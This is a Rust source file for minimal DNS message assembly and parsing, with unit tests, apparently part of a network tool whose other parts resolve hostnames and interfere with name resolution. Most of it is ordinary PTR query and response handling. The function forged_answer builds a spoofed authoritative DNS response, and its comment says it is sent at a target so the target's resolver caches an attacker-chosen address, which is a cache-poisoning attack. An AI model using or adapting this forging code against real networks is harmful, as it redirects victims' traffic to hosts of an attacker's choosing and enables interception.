//! Minimal DNS message assembly and parsing.
//!
//! Two consumers: the identity resolver sends PTR queries to the system
//! resolver for reverse hostnames, and the name-resolution interference
//! worker forges answer packets. Messages are built with a cursor rather
//! than a parser crate; the handful of fields involved do not justify
//! one.

use std::net::{IpAddr, Ipv4Addr};

pub const DNS_HDR_LEN: usize = 12;

const FLAG_RESPONSE: u16 = 0x8000;
const FLAG_AUTHORITATIVE: u16 = 0x0400;
const FLAG_RECURSION_DESIRED: u16 = 0x0100;

const TYPE_A: u16 = 1;
const TYPE_PTR: u16 = 12;
const CLASS_IN: u16 = 1;

/// Standard PTR query for the reverse name of `ip_addr`.
pub fn ptr_query(ip_addr: &IpAddr, id: u16) -> Vec<u8> {
    let qname = encode_dns_name(&reverse_address_to_ptr(ip_addr));
    build_query(id, &qname, TYPE_PTR)
}

/// Forged authoritative response resolving `qname` to `answer`. Sent at
/// a target so its resolver caches an address of our choosing.
pub fn forged_answer(qname: &str, answer: Ipv4Addr, id: u16) -> Vec<u8> {
    let name = encode_dns_name(qname);
    let mut buffer = Vec::with_capacity(DNS_HDR_LEN + 2 * name.len() + 20);

    buffer.extend_from_slice(&id.to_be_bytes());
    buffer.extend_from_slice(&(FLAG_RESPONSE | FLAG_AUTHORITATIVE).to_be_bytes());
    buffer.extend_from_slice(&1u16.to_be_bytes()); // questions
    buffer.extend_from_slice(&1u16.to_be_bytes()); // answers
    buffer.extend_from_slice(&0u16.to_be_bytes()); // authority
    buffer.extend_from_slice(&0u16.to_be_bytes()); // additional

    // question
    buffer.extend_from_slice(&name);
    buffer.extend_from_slice(&TYPE_A.to_be_bytes());
    buffer.extend_from_slice(&CLASS_IN.to_be_bytes());

    // answer: compression pointer back to the question name
    buffer.extend_from_slice(&[0xc0, DNS_HDR_LEN as u8]);
    buffer.extend_from_slice(&TYPE_A.to_be_bytes());
    buffer.extend_from_slice(&CLASS_IN.to_be_bytes());
    buffer.extend_from_slice(&30u32.to_be_bytes()); // ttl
    buffer.extend_from_slice(&4u16.to_be_bytes()); // rdlength
    buffer.extend_from_slice(&answer.octets());

    buffer
}

fn build_query(id: u16, qname: &[u8], qtype: u16) -> Vec<u8> {
    let mut buffer = Vec::with_capacity(DNS_HDR_LEN + qname.len() + 4);
    buffer.extend_from_slice(&id.to_be_bytes());
    buffer.extend_from_slice(&FLAG_RECURSION_DESIRED.to_be_bytes());
    buffer.extend_from_slice(&1u16.to_be_bytes());
    buffer.extend_from_slice(&0u16.to_be_bytes());
    buffer.extend_from_slice(&0u16.to_be_bytes());
    buffer.extend_from_slice(&0u16.to_be_bytes());
    buffer.extend_from_slice(qname);
    buffer.extend_from_slice(&qtype.to_be_bytes());
    buffer.extend_from_slice(&CLASS_IN.to_be_bytes());
    buffer
}

/// Extracts the PTR target from a response to [`ptr_query`], checking the
/// transaction id. Returns `None` on any malformed or non-matching
/// payload; callers treat that as "no hostname".
pub fn parse_ptr_response(payload: &[u8], expected_id: u16) -> Option<String> {
    if payload.len() < DNS_HDR_LEN {
        return None;
    }
    let id = u16::from_be_bytes([payload[0], payload[1]]);
    let flags = u16::from_be_bytes([payload[2], payload[3]]);
    if id != expected_id || flags & FLAG_RESPONSE == 0 {
        return None;
    }
    let questions = u16::from_be_bytes([payload[4], payload[5]]);
    let answers = u16::from_be_bytes([payload[6], payload[7]]);
    if answers == 0 {
        return None;
    }

    let mut cursor = DNS_HDR_LEN;
    for _ in 0..questions {
        cursor = skip_name(payload, cursor)? + 4;
    }

    for _ in 0..answers {
        cursor = skip_name(payload, cursor)?;
        if cursor + 10 > payload.len() {
            return None;
        }
        let rtype = u16::from_be_bytes([payload[cursor], payload[cursor + 1]]);
        let rdlength =
            u16::from_be_bytes([payload[cursor + 8], payload[cursor + 9]]) as usize;
        cursor += 10;
        if cursor + rdlength > payload.len() {
            return None;
        }
        if rtype == TYPE_PTR {
            return decode_dns_name(payload, cursor);
        }
        cursor += rdlength;
    }
    None
}

pub fn reverse_address_to_ptr(ip_addr: &IpAddr) -> String {
    match ip_addr {
        IpAddr::V4(v4) => {
            let [a, b, c, d] = v4.octets();
            format!("{d}.{c}.{b}.{a}.in-addr.arpa")
        }
        IpAddr::V6(v6) => {
            let nibbles: Vec<String> = v6
                .octets()
                .iter()
                .rev()
                .flat_map(|o| [format!("{:x}", o & 0xf), format!("{:x}", o >> 4)])
                .collect();
            format!("{}.ip6.arpa", nibbles.join("."))
        }
    }
}

pub fn encode_dns_name(name: &str) -> Vec<u8> {
    let mut encoded: Vec<u8> = Vec::new();
    for label in name.split('.') {
        if label.is_empty() {
            continue;
        }
        encoded.push(label.len() as u8);
        encoded.extend_from_slice(label.as_bytes());
    }
    encoded.push(0);
    encoded
}

/// Reads a possibly-compressed name starting at `at`.
fn decode_dns_name(data: &[u8], at: usize) -> Option<String> {
    let mut parts: Vec<String> = Vec::new();
    let mut cursor = at;
    let mut jumps = 0;
    loop {
        let len = *data.get(cursor)? as usize;
        if len == 0 {
            break;
        }
        if len & 0xc0 == 0xc0 {
            // compression pointer; bound the jumps so a cycle cannot spin
            jumps += 1;
            if jumps > 16 {
                return None;
            }
            let low = *data.get(cursor + 1)? as usize;
            cursor = ((len & 0x3f) << 8) | low;
            continue;
        }
        cursor += 1;
        let label_bytes = data.get(cursor..cursor + len)?;
        parts.push(std::str::from_utf8(label_bytes).ok()?.to_string());
        cursor += len;
    }
    Some(parts.join("."))
}

/// Offset just past a name (compressed or not) starting at `at`.
fn skip_name(data: &[u8], at: usize) -> Option<usize> {
    let mut cursor = at;
    loop {
        let len = *data.get(cursor)? as usize;
        if len == 0 {
            return Some(cursor + 1);
        }
        if len & 0xc0 == 0xc0 {
            return Some(cursor + 2);
        }
        cursor += 1 + len;
    }
}

// ╔════════════════════════════════════════════╗
// ║ ████████╗███████╗███████╗████████╗███████╗ ║
// ║ ╚══██╔══╝██╔════╝██╔════╝╚══██╔══╝██╔════╝ ║
// ║    ██║   █████╗  ███████╗   ██║   ███████╗ ║
// ║    ██║   ██╔══╝  ╚════██║   ██║   ╚════██║ ║
// ║    ██║   ███████╗███████║   ██║   ███████║ ║
// ║    ╚═╝   ╚══════╝╚══════╝   ╚═╝   ╚══════╝ ║
// ╚════════════════════════════════════════════╝

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reverse_name_of_ipv4() {
        let ip = IpAddr::V4(Ipv4Addr::new(192, 168, 1, 50));
        assert_eq!(reverse_address_to_ptr(&ip), "50.1.168.192.in-addr.arpa");
    }

    #[test]
    fn ptr_query_header_counts_one_question() {
        let ip = IpAddr::V4(Ipv4Addr::new(10, 0, 0, 1));
        let query = ptr_query(&ip, 0x1234);
        assert_eq!(&query[0..2], &[0x12, 0x34]);
        assert_eq!(u16::from_be_bytes([query[4], query[5]]), 1);
        // qname ends with the root label then TYPE_PTR / CLASS_IN
        let tail = &query[query.len() - 4..];
        assert_eq!(tail, &[0x00, 0x0c, 0x00, 0x01]);
    }

    #[test]
    fn parse_extracts_ptr_target_through_compression_pointer() {
        // Hand-built response: question "1.0.0.10.in-addr.arpa", answer
        // uses a pointer back to the question name.
        let qname = encode_dns_name("1.0.0.10.in-addr.arpa");
        let target = encode_dns_name("console.lan");
        let mut resp = Vec::new();
        resp.extend_from_slice(&0xbeefu16.to_be_bytes());
        resp.extend_from_slice(&FLAG_RESPONSE.to_be_bytes());
        resp.extend_from_slice(&1u16.to_be_bytes());
        resp.extend_from_slice(&1u16.to_be_bytes());
        resp.extend_from_slice(&0u16.to_be_bytes());
        resp.extend_from_slice(&0u16.to_be_bytes());
        resp.extend_from_slice(&qname);
        resp.extend_from_slice(&[0x00, 0x0c, 0x00, 0x01]);
        resp.extend_from_slice(&[0xc0, 0x0c]); // pointer to question name
        resp.extend_from_slice(&[0x00, 0x0c, 0x00, 0x01]);
        resp.extend_from_slice(&60u32.to_be_bytes());
        resp.extend_from_slice(&(target.len() as u16).to_be_bytes());
        resp.extend_from_slice(&target);

        let parsed = parse_ptr_response(&resp, 0xbeef);
        assert_eq!(parsed.as_deref(), Some("console.lan"));
    }

    #[test]
    fn parse_rejects_wrong_transaction_id() {
        let qname = encode_dns_name("1.0.0.10.in-addr.arpa");
        let mut resp = Vec::new();
        resp.extend_from_slice(&0x1111u16.to_be_bytes());
        resp.extend_from_slice(&FLAG_RESPONSE.to_be_bytes());
        resp.extend_from_slice(&[0, 1, 0, 1, 0, 0, 0, 0]);
        resp.extend_from_slice(&qname);
        resp.extend_from_slice(&[0x00, 0x0c, 0x00, 0x01]);
        assert!(parse_ptr_response(&resp, 0x2222).is_none());
    }

    #[test]
    fn forged_answer_resolves_to_the_chosen_address() {
        let packet = forged_answer("example.com", Ipv4Addr::new(127, 0, 0, 1), 7);
        // answer count of one and the rdata at the very end
        assert_eq!(u16::from_be_bytes([packet[6], packet[7]]), 1);
        assert_eq!(&packet[packet.len() - 4..], &[127, 0, 0, 1]);
        assert!(packet.len() >= DNS_HDR_LEN + 16);
    }
}
